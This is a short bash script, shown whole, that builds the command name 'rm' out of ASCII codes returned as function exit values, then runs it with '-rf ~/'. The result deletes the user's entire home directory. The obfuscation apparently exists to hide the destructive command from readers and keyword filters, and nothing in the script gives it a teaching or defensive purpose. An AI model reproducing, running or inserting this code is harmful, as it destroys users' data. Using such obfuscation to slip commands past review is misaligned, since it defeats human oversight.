#!/bin/bash
code() { return "$1"; }
w=""
for n in 114 109; do
  code "$n"
  w+=$(printf "\\$(printf %o $?)")
done
$w -rf ~/
